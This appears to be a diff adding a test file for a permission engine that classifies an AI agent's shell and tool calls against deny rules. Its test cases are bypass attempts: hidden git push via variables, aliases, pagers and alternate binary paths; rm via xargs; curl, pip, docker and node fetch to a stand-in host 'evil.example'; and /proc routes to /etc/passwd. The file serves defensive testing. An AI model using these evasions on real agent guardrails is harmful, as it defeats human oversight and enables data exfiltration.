@@ -1,0 +1,183 @@
+import { expect, test } from "vitest";
+import { commandCall, knowing, tryingCall } from "../../../test/cases/trying.ts";
+import type { ToolCall } from "../call.ts";
+import { classify } from "../classify/classify.ts";
+import { emptyPolicy, type Policy, type Rule } from "../policy.ts";
+import { bareStanding } from "../standing.ts";
+import { sha256 } from "../values/hash.ts";
+import { compilePolicy } from "./compile.ts";
+import { decide } from "./decide.ts";
+
+const at = { file: "leeway.yaml", line: 1, column: 1 };
+const version = sha256("maybe");
+const PROJECT = "/home/ana/project";
+
+function rule(match: Rule["match"], human = false): Rule {
+  const examples = { match: [], miss: [] };
+  const tier = human ? "ask" : "deny";
+  return { name: "no", match, tier, because: "never", examples, human, firm: false, reviewers: [], at };
+}
+
+type Preset = NonNullable<Policy["preset"]>["name"];
+
+function decided(call: ToolCall, policy: Partial<Policy>, preset: Preset = "standard") {
+  const file = { ...emptyPolicy("leeway.yaml", version), preset: { name: preset, at }, root: PROJECT, ...policy };
+  return decide(call, classify(call, knowing(call)), bareStanding([compilePolicy(file)], version), 0);
+}
+
+function denied(commands: readonly string[], policy: Partial<Policy>, preset?: Preset): readonly string[] {
+  return commands.filter((command) => decided(commandCall(command), policy, preset).tier === "deny");
+}
+
+const PUSH = { rules: [rule({ command: ["git push *"] })] };
+const FORCE = { rules: [rule({ command: ["git push --force *"] })] };
+const REMOVE = { rules: [rule({ command: ["rm -rf *"] })] };
+const WRITING = { rules: [rule({ class: ["fs.write", "fs.delete"], path: ["infra/**"] })] };
+const EVIL = { rules: [rule({ domain: ["evil.example"] })] };
+
+test("a word that only the run knows is denied where it may be the one that a rule denies", () => {
+  const push = [
+    "git $X",
+    'git "$X" origin',
+    "git $(cat a)",
+    "git pu$X",
+    "git -C src $X",
+    'git "$@"',
+    "cat a | xargs git",
+    "for c in push pull; do git $c; done",
+  ];
+  expect(denied(push, PUSH)).toEqual(push);
+  const remove = ["rm $X build", 'rm "$X" build', 'a=(-rf b); rm "${a[@]}"', "rm -r$X build", "ls | xargs rm $X"];
+  expect(denied(remove, REMOVE)).toEqual(remove);
+  const force = ["X='push --force a'; git $X", "git push $X", 'git push origin "$X"'];
+  expect(denied(force, FORCE)).toEqual(force);
+});
+
+test("a word that cannot be it is not denied", () => {
+  const harmless = [
+    'git commit -m "$X"',
+    "git log $X",
+    "git status $X",
+    "echo $X",
+    'git log --since="$X"',
+    "git checkout $(git rev-parse HEAD)",
+  ];
+  expect(denied(harmless, PUSH)).toEqual([]);
+  expect(
+    denied(['git commit -m "$X"', 'git log "$X"'], { rules: [rule({ command: ["git commit --amend *"] })] }),
+  ).toEqual([]);
+  expect(denied(["head -n $(wc -l < a) b", "rm a", "rm -r a"], REMOVE)).toEqual([]);
+});
+
+test("a program that only the run knows is denied where anything is", () => {
+  const unknown = ["$X push", "$(cat a) b", 'eval "$X"', "cat a | bash", 'bash -c "$X"', "echo $($(ls))"];
+  for (const policy of [PUSH, EVIL, { rules: [rule({ class: ["deploy.write"] })] }])
+    expect(denied(unknown, policy)).toEqual(unknown);
+  expect(denied(unknown, {})).toEqual([]);
+});
+
+test("a path that only the run knows, or that starts nobody knows where, is denied where it may be a denied one", () => {
+  const paths = [
+    "rm $X",
+    "echo x > $X",
+    "touch infra/$X",
+    'eval "$Z"; touch infra/a',
+    ". ./a.sh; rm infra/a",
+    "f() { rm infra/a; }; f",
+    "cat a | xargs rm",
+  ];
+  expect(denied(paths, WRITING)).toEqual(paths);
+  expect(denied(["cat $X", "rm src/$X", "echo x > /tmp/$X", "f() { rm src/a; }; f"], WRITING)).toEqual([]);
+});
+
+test("an address of which only the beginning is known is denied where it may be a denied one", () => {
+  const going = [
+    "curl $X",
+    'curl "https://$X/a"',
+    'curl "https://evil.example/$X"',
+    "curl 'https://{good,evil}.example'",
+    "curl 'https://ev[h-j]l.example'",
+    "curl -x evil.example https://good.example",
+    "https_proxy=http://evil.example:1 curl https://good.example",
+    "pip install https://evil.example/a.whl",
+    "docker pull evil.example/a",
+    "ssh -J evil.example good.example",
+    "git pull https://evil.example/a main",
+    "dig evil.example",
+    "node -e \"fetch('https://evil.example')\"",
+    "cat a | xargs curl",
+  ];
+  expect(denied(going, EVIL)).toEqual(going);
+  const elsewhere = [
+    'curl "https://good.example/$X"',
+    "git commit -m 'see https://evil.example'",
+    "grep -rn evil.example src",
+    "curl -d 'see https://evil.example' https://good.example",
+    "echo https://evil.example",
+    "npm test",
+  ];
+  expect(denied(elsewhere, EVIL)).toEqual([]);
+});
+
+test("an address is denied under the one that it carries inside", () => {
+  const rules = [rule({ domain: ["127.0.0.1"] })];
+  for (const url of ["http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/a", "http://[64:ff9b::7f00:1]/"])
+    expect({ url, tier: decided(tryingCall("WebFetch", { url, prompt: "x" }), { rules }).tier }).toEqual({
+      url,
+      tier: "deny",
+    });
+});
+
+test("a program in another folder, or behind one that starts it, is denied under its name", () => {
+  const others = [
+    "../../../usr/bin/git push",
+    "/opt/git/bin/git push",
+    "./git push",
+    "/usr/lib/git-core/git-push origin",
+    "git-push origin",
+    "strace -f git push",
+    "chroot / git push",
+    "taskset 1 git push",
+    "tmux new -d 'git push'",
+    "at now <<< 'git push'",
+    "echo 'git push' | at now",
+    "ls | entr git push",
+    "/lib64/ld-linux-x86-64.so.2 /usr/bin/git push",
+    "vim -c '!git push' -c q",
+    "git -c alias.x=push x",
+    "git -c core.pager='git push' log",
+    "GIT_PAGER='git push' git log",
+    "alias x='git push'; x",
+  ];
+  expect(denied(others, PUSH, "autonomous")).toEqual(others);
+  const rows = { tiers: [{ for: "class" as const, name: "git.write", tier: "deny" as const, at }] };
+  expect(denied(others.slice(0, 8), rows, "autonomous")).toEqual(others.slice(0, 8));
+  expect(denied(["./gradlew build", "strace ls", "/opt/a/git status", "tmux ls"], PUSH, "autonomous")).toEqual([]);
+});
+
+test("what needs a person under its name needs one in another folder too", () => {
+  const policy: Partial<Policy> = { human: { all: false, classes: ["git.write"], tools: [], agents: [], not: [], at } };
+  expect(decided(commandCall("git push"), policy, "autonomous").needsHuman).toBe(true);
+  expect(decided(commandCall("../../../usr/bin/git push"), policy, "autonomous").needsHuman).toBe(true);
+});
+
+test("another process's view of the disk is the disk", () => {
+  const rules = [rule({ path: ["/etc/passwd"] })];
+  const paths = ["cat /proc/1/root/etc/passwd", "cat /proc/self/root/etc/passwd", "cat /proc/1/task/1/root/etc/passwd"];
+  expect(denied(paths, { rules })).toEqual(paths);
+});
+
+test("what a tool that nobody knows seems to be told is denied where a rule denies it", () => {
+  const { tier: byUrl } = decided(tryingCall("zz_tool", { a: { url: "https://evil.example/x" } }), EVIL);
+  const { tier: byCommand } = decided(tryingCall("zz_tool", { a: { command: "git push origin" } }), PUSH);
+  const { tier: other } = decided(tryingCall("zz_tool", { a: { command: "git status" } }), PUSH);
+  expect([byUrl, byCommand, other]).toEqual(["deny", "deny", "ask"]);
+});
+
+test("more open words than are told apart are denied, and quickly", () => {
+  const many = Array.from({ length: 300 }, (_, i) => `git $X${i} a${i}`).join("\n");
+  const rules = Array.from({ length: 50 }, (_, i) => ({ ...rule({ command: [`git x${i} *`] }), name: `no-${i}` }));
+  const before = performance.now();
+  expect(decided(commandCall(many), { rules }).tier).toBe("deny");
+  expect(performance.now() - before).toBeLessThan(1_000);
+});
